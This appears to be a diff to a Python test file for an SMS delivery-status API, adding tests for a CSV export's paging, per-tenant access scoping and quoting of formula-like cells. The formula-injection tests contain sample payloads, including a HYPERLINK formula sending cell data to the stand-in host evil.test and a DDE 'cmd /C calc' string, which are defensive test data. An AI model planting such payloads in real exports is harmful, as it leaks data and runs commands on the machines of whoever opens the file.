@@ -4,6 +4,8 @@ scoping on every endpoint, consume-once lists, complete feeds, windows and pagin
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import time
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -13,8 +15,11 @@ import pytest
 from fastapi import FastAPI
 from sqlalchemy.ext.asyncio import AsyncEngine
 
+from app.api import status as status_routes
+from app.api.schemas import StatusOut
 from app.db import users
 from app.rules.scope import Role
+from app.rules.spreadsheet_csv import spreadsheet_safe
 from tests.conftest import add_key
 
 WAVY_STATUS_FIELDS = {
@@ -568,6 +573,101 @@ async def test_dashboard_listing_filters_and_pages_newest_first(world: World) ->
     assert [s["id"] for s in second["items"]] == ["a-2", "a-1"]
     assert [s["id"] for s in failed["items"]] == ["a-6", "a-4", "a-2", "a-0"]
     assert failed["next"] is None
+
+
+def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
+    assert response.status_code == 200, response.text
+    return list(csv.DictReader(io.StringIO(response.text)))
+
+
+def as_csv_cell(value: Any) -> str:
+    return "" if value is None else str(value)
+
+
+async def test_export_has_every_status_the_filters_select_newest_first_across_pages(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(status_routes, "EXPORT_PAGE_ROWS", 2)  # 5 rows: three pages
+    for i in range(7):
+        carrier = "VIVO" if i < 5 else "TIM"
+        await world.post("dlr", dlr(f"a-{i}", carrierName=carrier, campaignId=64), "acme")
+    await world.post("dlr", dlr("g-1", carrierName="VIVO"), "globex")
+
+    response = await world.get("ana", "/v1/sms/status/export", carrierName="VIVO")
+    listing = await world.ok("ana", "/v1/sms/status", carrierName="VIVO")
+    header = response.text.split("\r\n", 1)[0].split(",")
+    rows = csv_rows(response)
+
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    assert response.headers["content-disposition"].startswith('attachment; filename="statuses-')
+    assert header == list(StatusOut.model_fields)  # the listing's fields, in its order
+    assert [row["id"] for row in rows] == ["a-4", "a-3", "a-2", "a-1", "a-0"]
+    assert rows == [
+        {name: as_csv_cell(value) for name, value in item.items()} for item in listing["items"]
+    ]
+
+
+async def test_export_is_scoped_like_the_listing(world: World) -> None:
+    await world.post("dlr", dlr("a-1"), "acme")
+    await world.post("dlr", dlr("g-1"), "globex")
+    await world.post("dlr", dlr("n-1"), None)
+
+    gil = csv_rows(await world.get("gil", "/v1/sms/status/export"))
+    boss = csv_rows(await world.get("boss", "/v1/sms/status/export"))
+    boss_acme = csv_rows(await world.get("boss", "/v1/sms/status/export", subAccount="acme"))
+    widening = await world.get("ana", "/v1/sms/status/export", subAccount="globex")
+    anonymous = await world.client.get("/v1/sms/status/export")
+    nothing = await world.get("ana", "/v1/sms/status/export", campaignId="none-such")
+
+    assert [row["id"] for row in gil] == ["g-1"]
+    assert {row["id"] for row in boss} == {"a-1", "g-1", "n-1"}
+    assert [row["id"] for row in boss_acme] == ["a-1"]
+    assert (widening.status_code, anonymous.status_code) == (403, 401)
+    assert nothing.status_code == 200
+    assert nothing.text == ",".join(StatusOut.model_fields) + "\r\n"  # the header alone
+
+
+async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(
+    world: World,
+) -> None:
+    await world.post(
+        "dlr",
+        dlr(
+            "f-1",
+            correlationId='=HYPERLINK("http://evil.test/?"&A1,"open")',
+            extraInfo="@SUM(1+1)",
+            destination="+5511999990000",
+            campaignId="-7",
+        ),
+        "acme",
+    )
+
+    (row,) = csv_rows(await world.get("ana", "/v1/sms/status/export"))
+
+    assert row["correlationId"] == '\'=HYPERLINK("http://evil.test/?"&A1,"open")'
+    assert row["extraInfo"] == "'@SUM(1+1)"
+    assert row["destination"] == "+5511999990000"  # a phone number is no formula
+    assert row["campaignId"] == "-7"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+SUM(A1)", "'+SUM(A1)"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("+5511999990000", "+5511999990000"),
+        ("-3.5", "-3.5"),
+        ("a=b", "a=b"),
+        (42, 42),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe_quotes_only_what_would_run(value: object, written: object) -> None:
+    assert spreadsheet_safe(value) == written
 
 
 async def test_injection_attempts_in_parameters_are_just_values(
